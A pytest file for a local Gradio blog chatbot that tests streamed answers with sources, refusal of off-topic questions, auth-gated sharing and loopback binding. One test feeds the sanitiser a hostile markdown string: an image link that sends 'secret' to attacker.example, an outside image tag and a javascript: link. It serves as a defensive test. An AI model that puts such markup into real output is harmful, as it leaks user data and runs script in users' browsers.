"""The Gradio app on loopback, driven by gradio_client like a real browser session would."""

from __future__ import annotations

from pathlib import Path

import pytest

from conftest import run_cli, write
from localchat.app import build_app, safe_markdown
from localchat.config import Config
from localchat.engine import Engine
from test_index import make_posts


@pytest.fixture(scope="module")
def client(tmp_path_factory, embedder, model):
    from gradio_client import Client

    root = tmp_path_factory.mktemp("app")
    config = Config(posts=make_posts(root / "posts"), index=root / "index", n_ctx=2048, max_tokens=40)
    engine = Engine(config, embedder=embedder, model=model)
    engine.sync()
    demo = build_app(engine)
    demo.queue(max_size=8)
    _, url, _ = demo.launch(server_name="127.0.0.1", server_port=None, prevent_thread_lock=True, quiet=True)
    try:
        yield Client(url, verbose=False)
    finally:
        demo.close()


def test_chat_streams_and_lists_sources(client) -> None:
    client.reset_session()
    job = client.submit("How often should I feed my sourdough starter?", api_name="/chat")
    outputs = list(job)
    assert len(outputs) > 2  # streamed in pieces
    text, sources = job.result()
    assert text
    assert "Sourdough Starter Care" in sources and "#feeding" in sources


def test_refusal_is_shown_as_one(client) -> None:
    client.reset_session()
    text, sources = client.predict("Who won the 1998 football world cup?", api_name="/chat")
    assert text.startswith("I haven't written about that.")
    assert "Nearest posts" in sources


def test_model_output_cannot_carry_images_or_script_links() -> None:
    evil = 'Hi ![x](https://attacker.example/?q=secret) <img src="https://a.example/p.png"> [c](javascript:alert(1))'
    out = safe_markdown(evil)
    assert "attacker.example" not in out and "<img" not in out and "javascript:" not in out


def test_share_without_auth_refuses(tmp_path: Path) -> None:
    write(tmp_path / "posts", "a.md", "---\ntitle: A\n---\nText.\n")
    result = run_cli("serve", "--share", "--posts", str(tmp_path / "posts"), "--index", str(tmp_path / "ix"),
                     cwd=tmp_path, timeout=120)
    assert result.returncode == 1
    assert "--share" in result.stderr and "--auth" in result.stderr and "Traceback" not in result.stderr


def test_serve_indexes_the_sample_blog_and_binds_loopback(tmp_path: Path) -> None:
    import socket

    from gradio_client import Client

    from conftest import SAMPLE_POSTS
    from localchat.app import serve

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    demo = serve(Config(posts=SAMPLE_POSTS, index=tmp_path / "ix", port=port, max_tokens=24), prevent_thread_lock=True)
    try:
        assert demo.server_name == "127.0.0.1"
        _, sources = Client(f"http://127.0.0.1:{port}/", verbose=False).predict(
            "How do you wire the BME280 sensor?", api_name="/chat")
        assert "Raspberry Pi Weather Station" in sources
    finally:
        demo.close()
